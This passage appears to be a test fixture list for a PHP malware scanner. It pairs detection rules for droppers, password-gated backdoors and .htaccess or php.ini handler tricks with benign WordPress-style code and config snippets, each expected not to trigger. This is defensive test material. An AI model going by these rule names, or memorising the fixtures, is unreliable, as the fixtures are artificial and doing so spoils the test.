            "<?php\n$target = wp_upload_dir()['path'] . '/' . sanitize_file_name($file['name']);\nmove_uploaded_file($file['tmp_name'], $target);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        embedded(
            "<?php\n$target = wp_upload_dir()['path'] . '/' . sanitize_file_name($file['name']);\nmove_uploaded_file($file['tmp_name'], $target);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            "<?php\necho '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"logo\"><input type=\"submit\"></form>';\nif (!empty($_FILES['logo'])) {\n    $dest = $upload_dir . '/' . sanitize_file_name($_FILES['logo']['name']);\n    move_uploaded_file($_FILES['logo']['tmp_name'], $dest);\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<?php\necho '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"logo\"><input type=\"submit\"></form>';\nif (!empty($_FILES['logo'])) {\n    $dest = $upload_dir . '/' . sanitize_file_name($_FILES['logo']['name']);\n    move_uploaded_file($_FILES['logo']['tmp_name'], $dest);\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<?php\necho '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"logo\"><input type=\"submit\"></form>';\nif (!empty($_FILES['logo'])) {\n    $dest = $upload_dir . '/' . sanitize_file_name($_FILES['logo']['name']);\n    move_uploaded_file($_FILES['logo']['tmp_name'], $dest);\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        plain(
            "<?php\n$album = (int) $_POST['album'];\n$target = $base . '/' . md5($_FILES['p']['name']) . '.jpg';\nmove_uploaded_file($_FILES['p']['tmp_name'], $target);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        padded(
            "<?php\n$album = (int) $_POST['album'];\n$target = $base . '/' . md5($_FILES['p']['name']) . '.jpg';\nmove_uploaded_file($_FILES['p']['tmp_name'], $target);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        embedded(
            "<?php\n$album = (int) $_POST['album'];\n$target = $base . '/' . md5($_FILES['p']['name']) . '.jpg';\nmove_uploaded_file($_FILES['p']['tmp_name'], $target);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        plain(
            "<?php\n$lang = $_SERVER['HTTP_ACCEPT_LANGUAGE'];\nmove_uploaded_file($_FILES['doc']['tmp_name'], $store . '/' . uniqid('doc', true));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        padded(
            "<?php\n$lang = $_SERVER['HTTP_ACCEPT_LANGUAGE'];\nmove_uploaded_file($_FILES['doc']['tmp_name'], $store . '/' . uniqid('doc', true));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        embedded(
            "<?php\n$lang = $_SERVER['HTTP_ACCEPT_LANGUAGE'];\nmove_uploaded_file($_FILES['doc']['tmp_name'], $store . '/' . uniqid('doc', true));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$key = $_GET['q'];\n$data = render_page($key);\nfile_put_contents($cache . '/' . md5($_GET['q']), $data);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$key = $_GET['q'];\n$data = render_page($key);\nfile_put_contents($cache . '/' . md5($_GET['q']), $data);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$key = $_GET['q'];\n$data = render_page($key);\nfile_put_contents($cache . '/' . md5($_GET['q']), $data);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$name = $_POST['name'];\n$msg = $_POST['msg'];\nfile_put_contents($logfile, $name . ': ' . $msg . \"\\n\", FILE_APPEND);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$name = $_POST['name'];\n$msg = $_POST['msg'];\nfile_put_contents($logfile, $name . ': ' . $msg . \"\\n\", FILE_APPEND);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$name = $_POST['name'];\n$msg = $_POST['msg'];\nfile_put_contents($logfile, $name . ': ' . $msg . \"\\n\", FILE_APPEND);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php\nfor ($i = 0; $i < count($files['name']); $i++) {\n    move_uploaded_file($files['tmp_name'][$i], $dir . '/' . sanitize_file_name($files['name'][$i]));\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php\nfor ($i = 0; $i < count($files['name']); $i++) {\n    move_uploaded_file($files['tmp_name'][$i], $dir . '/' . sanitize_file_name($files['name'][$i]));\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        embedded(
            "<?php\nfor ($i = 0; $i < count($files['name']); $i++) {\n    move_uploaded_file($files['tmp_name'][$i], $dir . '/' . sanitize_file_name($files['name'][$i]));\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        plain(
            "<?php\n$h = getallheaders();\nif (isset($h['X-Requested-With'])) { echo json_encode($data); exit; }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        padded(
            "<?php\n$h = getallheaders();\nif (isset($h['X-Requested-With'])) { echo json_encode($data); exit; }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        embedded(
            "<?php\n$h = getallheaders();\nif (isset($h['X-Requested-With'])) { echo json_encode($data); exit; }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        plain(
            "<?php\n$headers = apache_request_headers();\nif (!empty($headers['Authorization'])) { $token = trim(substr($headers['Authorization'], 7)); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        padded(
            "<?php\n$headers = apache_request_headers();\nif (!empty($headers['Authorization'])) { $token = trim(substr($headers['Authorization'], 7)); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_HeaderArrayGatedSink",
        embedded(
            "<?php\n$headers = apache_request_headers();\nif (!empty($headers['Authorization'])) { $token = trim(substr($headers['Authorization'], 7)); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$link = esc_url('https://wordpress.org/documentation/article/editing-wp-config-php/');\n$path_to_wp_config = ABSPATH . 'wp-config.php';\n$handle = fopen($path_to_wp_config, 'w');\nforeach ($config_file as $line) { fwrite($handle, $line); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$link = esc_url('https://wordpress.org/documentation/article/editing-wp-config-php/');\n$path_to_wp_config = ABSPATH . 'wp-config.php';\n$handle = fopen($path_to_wp_config, 'w');\nforeach ($config_file as $line) { fwrite($handle, $line); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$link = esc_url('https://wordpress.org/documentation/article/editing-wp-config-php/');\n$path_to_wp_config = ABSPATH . 'wp-config.php';\n$handle = fopen($path_to_wp_config, 'w');\nforeach ($config_file as $line) { fwrite($handle, $line); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$in = $_POST;\n$title = trim($in['title']);\n$body = $in['body'];\nfile_put_contents($cachefile, $body);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$in = $_POST;\n$title = trim($in['title']);\n$body = $in['body'];\nfile_put_contents($cachefile, $body);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$in = $_POST;\n$title = trim($in['title']);\n$body = $in['body'];\nfile_put_contents($cachefile, $body);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            "<?php\necho '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"></form>';\n$name = sanitize_file_name($_FILES['f']['name']);\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<?php\necho '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"></form>';\n$name = sanitize_file_name($_FILES['f']['name']);\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<?php\necho '<form method=\"post\" enctype=\"multipart/form-data\"><input type=\"file\" name=\"f\"></form>';\n$name = sanitize_file_name($_FILES['f']['name']);\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . $name);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        plain(
            "<?php\n$gallery = $_POST['gallery'];\n$dest .= '/' . md5($_FILES['u']['name']);\nmove_uploaded_file($_FILES['u']['tmp_name'], $dest);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        padded(
            "<?php\n$gallery = $_POST['gallery'];\n$dest .= '/' . md5($_FILES['u']['name']);\nmove_uploaded_file($_FILES['u']['tmp_name'], $dest);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToRequestPath",
        embedded(
            "<?php\n$gallery = $_POST['gallery'];\n$dest .= '/' . md5($_FILES['u']['name']);\nmove_uploaded_file($_FILES['u']['tmp_name'], $dest);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php\nfile_put_contents($svg_path, base64_decode($icon_data));\n$icon_width = isset($args['width']) ? (int) $args['width'] : 16;\n$icon_height = isset($args['height']) ? (int) $args['height'] : 16;\n$icon_title = esc_attr($args['title']);\n$icon_class = 'menu-icon ' . sanitize_html_class($args['class']);\ninclude $template;\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php\nfile_put_contents($svg_path, base64_decode($icon_data));\n$icon_width = isset($args['width']) ? (int) $args['width'] : 16;\n$icon_height = isset($args['height']) ? (int) $args['height'] : 16;\n$icon_title = esc_attr($args['title']);\n$icon_class = 'menu-icon ' . sanitize_html_class($args['class']);\ninclude $template;\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php\nfile_put_contents($svg_path, base64_decode($icon_data));\n$icon_width = isset($args['width']) ? (int) $args['width'] : 16;\n$icon_height = isset($args['height']) ? (int) $args['height'] : 16;\n$icon_title = esc_attr($args['title']);\n$icon_class = 'menu-icon ' . sanitize_html_class($args['class']);\ninclude $template;\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        plain(
            "<?php\n$parent_file = 'upload.php';\n$labels[0] = __('Label number 0', 'textdomain');\n$labels[1] = __('Label number 1', 'textdomain');\n$labels[2] = __('Label number 2', 'textdomain');\n$labels[3] = __('Label number 3', 'textdomain');\n$labels[4] = __('Label number 4', 'textdomain');\n$labels[5] = __('Label number 5', 'textdomain');\n$labels[6] = __('Label number 6', 'textdomain');\n$labels[7] = __('Label number 7', 'textdomain');\n$labels[8] = __('Label number 8', 'textdomain');\n$labels[9] = __('Label number 9', 'textdomain');\n$labels[10] = __('Label number 10', 'textdomain');\n$labels[11] = __('Label number 11', 'textdomain');\n$labels[12] = __('Label number 12', 'textdomain');\n$labels[13] = __('Label number 13', 'textdomain');\n$new_file = $uploads['path'] . '/' . wp_unique_filename($uploads['path'], $name);\nmove_uploaded_file($_FILES['async-upload']['tmp_name'], $new_file);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        padded(
            "<?php\n$parent_file = 'upload.php';\n$labels[0] = __('Label number 0', 'textdomain');\n$labels[1] = __('Label number 1', 'textdomain');\n$labels[2] = __('Label number 2', 'textdomain');\n$labels[3] = __('Label number 3', 'textdomain');\n$labels[4] = __('Label number 4', 'textdomain');\n$labels[5] = __('Label number 5', 'textdomain');\n$labels[6] = __('Label number 6', 'textdomain');\n$labels[7] = __('Label number 7', 'textdomain');\n$labels[8] = __('Label number 8', 'textdomain');\n$labels[9] = __('Label number 9', 'textdomain');\n$labels[10] = __('Label number 10', 'textdomain');\n$labels[11] = __('Label number 11', 'textdomain');\n$labels[12] = __('Label number 12', 'textdomain');\n$labels[13] = __('Label number 13', 'textdomain');\n$new_file = $uploads['path'] . '/' . wp_unique_filename($uploads['path'], $name);\nmove_uploaded_file($_FILES['async-upload']['tmp_name'], $new_file);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        embedded(
            "<?php\n$parent_file = 'upload.php';\n$labels[0] = __('Label number 0', 'textdomain');\n$labels[1] = __('Label number 1', 'textdomain');\n$labels[2] = __('Label number 2', 'textdomain');\n$labels[3] = __('Label number 3', 'textdomain');\n$labels[4] = __('Label number 4', 'textdomain');\n$labels[5] = __('Label number 5', 'textdomain');\n$labels[6] = __('Label number 6', 'textdomain');\n$labels[7] = __('Label number 7', 'textdomain');\n$labels[8] = __('Label number 8', 'textdomain');\n$labels[9] = __('Label number 9', 'textdomain');\n$labels[10] = __('Label number 10', 'textdomain');\n$labels[11] = __('Label number 11', 'textdomain');\n$labels[12] = __('Label number 12', 'textdomain');\n$labels[13] = __('Label number 13', 'textdomain');\n$new_file = $uploads['path'] . '/' . wp_unique_filename($uploads['path'], $name);\nmove_uploaded_file($_FILES['async-upload']['tmp_name'], $new_file);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        plain("<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name . '.jpg');\n"),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        padded("<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name . '.jpg');\n"),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadSavedAsPhp",
        embedded("<?php\nmove_uploaded_file($_FILES['f']['tmp_name'], $dir . '/' . $name . '.jpg');\n"),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php\n$admin_hash = '5f4dcc3b5aa765d61d8327deb882cf99';\nif (md5($_POST['password']) == $admin_hash) { $_SESSION['admin'] = true; }\nfile_put_contents($log, date('c') . \" login\\n\", FILE_APPEND);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php\n$admin_hash = '5f4dcc3b5aa765d61d8327deb882cf99';\nif (md5($_POST['password']) == $admin_hash) { $_SESSION['admin'] = true; }\nfile_put_contents($log, date('c') . \" login\\n\", FILE_APPEND);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php\n$admin_hash = '5f4dcc3b5aa765d61d8327deb882cf99';\nif (md5($_POST['password']) == $admin_hash) { $_SESSION['admin'] = true; }\nfile_put_contents($log, date('c') . \" login\\n\", FILE_APPEND);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        plain(
            "<?php\n$data = $_POST['payload'];\nif (md5($data) === 'd41d8cd98f00b204e9800998ecf8427e') { fwrite($fh, 'empty'); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        padded(
            "<?php\n$data = $_POST['payload'];\nif (md5($data) === 'd41d8cd98f00b204e9800998ecf8427e') { fwrite($fh, 'empty'); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_PASSGATE_GatedSink",
        embedded(
            "<?php\n$data = $_POST['payload'];\nif (md5($data) === 'd41d8cd98f00b204e9800998ecf8427e') { fwrite($fh, 'empty'); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$in = $_POST;\n$name = $in['name'];\n$img = $in['img'];\nfile_put_contents($dest, base64_decode($img));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$in = $_POST;\n$name = $in['name'];\n$img = $in['img'];\nfile_put_contents($dest, base64_decode($img));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$in = $_POST;\n$name = $in['name'];\n$img = $in['img'];\nfile_put_contents($dest, base64_decode($img));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$o = new SplFileObject(__DIR__ . '/config.php', 'r');\n$api = 'https://api.example.org/v1/';\n$r = wp_remote_get($api . 'status');\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$o = new SplFileObject(__DIR__ . '/config.php', 'r');\n$api = 'https://api.example.org/v1/';\n$r = wp_remote_get($api . 'status');\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$o = new SplFileObject(__DIR__ . '/config.php', 'r');\n$api = 'https://api.example.org/v1/';\n$r = wp_remote_get($api . 'status');\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        plain(
            "<?php\necho '<form method=post enctype=multipart/form-data><input type=file name=file></form>';\n@copy($_FILES[file][tmp_name], $dir . '/' . md5($_FILES[file][name]));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        padded(
            "<?php\necho '<form method=post enctype=multipart/form-data><input type=file name=file></form>';\n@copy($_FILES[file][tmp_name], $dir . '/' . md5($_FILES[file][name]));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadFormNearClientNameMove",
        embedded(
            "<?php\necho '<form method=post enctype=multipart/form-data><input type=file name=file></form>';\n@copy($_FILES[file][tmp_name], $dir . '/' . md5($_FILES[file][name]));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        plain(
            "<?php\n$phpStr = LightnCandy::compile($template);\nfile_put_contents('render.php', '<?php ' . $phpStr . '?>');\n$renderer = include('render.php');\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        padded(
            "<?php\n$phpStr = LightnCandy::compile($template);\nfile_put_contents('render.php', '<?php ' . $phpStr . '?>');\n$renderer = include('render.php');\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_DecodedWriteThenInclude",
        embedded(
            "<?php\n$phpStr = LightnCandy::compile($template);\nfile_put_contents('render.php', '<?php ' . $phpStr . '?>');\n$renderer = include('render.php');\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$id = (int) $_GET['id'];\n$fp = fopen($cachefile, 'w') or die('cache');\nfwrite($fp, render($id));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$id = (int) $_GET['id'];\n$fp = fopen($cachefile, 'w') or die('cache');\nfwrite($fp, render($id));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$id = (int) $_GET['id'];\n$fp = fopen($cachefile, 'w') or die('cache');\nfwrite($fp, render($id));\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        plain(
            "<?php\n$in = fopen('php://input', 'r');\n$out = fopen($tmpfile, 'w');\nstream_copy_to_stream($in, $out);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        padded(
            "<?php\n$in = fopen('php://input', 'r');\n$out = fopen($tmpfile, 'w');\nstream_copy_to_stream($in, $out);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RequestPathAndBodyWrite",
        embedded(
            "<?php\n$in = fopen('php://input', 'r');\n$out = fopen($tmpfile, 'w');\nstream_copy_to_stream($in, $out);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        plain(
            "<?php\n$p = './uploads/' . md5($_FILES['file']['name']);\nmove_uploaded_file($_FILES['file']['tmp_name'], $p);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        padded(
            "<?php\n$p = './uploads/' . md5($_FILES['file']['name']);\nmove_uploaded_file($_FILES['file']['tmp_name'], $p);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_UploadToSelfDirClientName",
        embedded(
            "<?php\n$p = './uploads/' . md5($_FILES['file']['name']);\nmove_uploaded_file($_FILES['file']['tmp_name'], $p);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\n$docs = 'https://wordpress.org/support/';\nif (!is_file($f = WP_CONTENT_DIR . '/index.php')) { copy(ABSPATH . 'wp-content/index.php', WP_CONTENT_DIR . '/index.php'); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\n$docs = 'https://wordpress.org/support/';\nif (!is_file($f = WP_CONTENT_DIR . '/index.php')) { copy(ABSPATH . 'wp-content/index.php', WP_CONTENT_DIR . '/index.php'); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\n$docs = 'https://wordpress.org/support/';\nif (!is_file($f = WP_CONTENT_DIR . '/index.php')) { copy(ABSPATH . 'wp-content/index.php', WP_CONTENT_DIR . '/index.php'); }\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        plain(
            "<?php\nexec('curl -s https://example.org/ping -o /dev/null', $out);\n$log = __DIR__ . '/cron.php';\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        padded(
            "<?php\nexec('curl -s https://example.org/ping -o /dev/null', $out);\n$log = __DIR__ . '/cron.php';\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_DROPPER_RemoteFetchNearPhpWrite",
        embedded(
            "<?php\nexec('curl -s https://example.org/ping -o /dev/null', $out);\n$log = __DIR__ . '/cron.php';\n"
        ),
        False,
    ),
    ("SPAMGEAR_POLYGLOT_HtaccessHandler", plain("Options +ExecCGI\nAddHandler cgi-script .cgi .pl\n"), False),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("Options +ExecCGI\nAddHandler cgi-script .cgi .pl\n"),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain(
            '<FilesMatch "\\.php$">\n  SetHandler "proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost"\n</FilesMatch>\n'
        ),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            '<FilesMatch "\\.php$">\n  SetHandler "proxy:unix:/run/php/php8.2-fpm.sock|fcgi://localhost"\n</FilesMatch>\n'
        ),
        False,
    ),
    ("SPAMGEAR_POLYGLOT_HtaccessHandler", plain("AddHandler application/x-httpd-lsphp .php\n"), False),
    ("SPAMGEAR_POLYGLOT_HtaccessHandler", ht_padded("AddHandler application/x-httpd-lsphp .php\n"), False),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('php_value auto_prepend_file "/home/u/public_html/wordfence-waf.php"\n'),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('php_value auto_prepend_file "/home/u/public_html/wordfence-waf.php"\n'),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('php_value auto_prepend_file none\nphp_value include_path ".:/usr/share/php"\n'),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('php_value auto_prepend_file none\nphp_value include_path ".:/usr/share/php"\n'),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain('<FilesMatch "\\.php$">\n  SetHandler proxy:fcgi://127.0.0.1:9000\n</FilesMatch>\n'),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded('<FilesMatch "\\.php$">\n  SetHandler proxy:fcgi://127.0.0.1:9000\n</FilesMatch>\n'),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain("AddHandler php-cgi .php\nAction php-cgi /cgi-bin/php\n"),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded("AddHandler php-cgi .php\nAction php-cgi /cgi-bin/php\n"),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        plain(
            "AddHandler server-parsed .shtml\nAddHandler type-map .var\nAction image-resize /cgi-bin/resize.cgi\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_HtaccessHandler",
        ht_padded(
            "AddHandler server-parsed .shtml\nAddHandler type-map .var\nAction image-resize /cgi-bin/resize.cgi\n"
        ),
        False,
    ),
    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", plain("auto_prepend_file = /usr/share/php/prepend.inc\n"), False),
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file = /usr/share/php/prepend.inc\n"),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain('auto_prepend_file = "/home/site.com/public_html/waf/bootstrap.phtml"\n'),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file = "/home/site.com/public_html/waf/bootstrap.phtml"\n'),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        plain("auto_prepend_file = '/var/www/html/wordfence-waf.php'\n"),
        False,
    ),
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file = '/var/www/html/wordfence-waf.php'\n"),
        False,
    ),
    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", plain('auto_prepend_file = "/home/u/.wafs/prepend.php"\n'), False),
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded('auto_prepend_file = "/home/u/.wafs/prepend.php"\n'),
        False,
    ),
    ("SPAMGEAR_POLYGLOT_IniPrependNonPhp", plain("auto_prepend_file =\nauto_append_file = none\n"), False),
    (
        "SPAMGEAR_POLYGLOT_IniPrependNonPhp",
        ini_padded("auto_prepend_file =\nauto_append_file = none\n"),
        False,
    ),
]
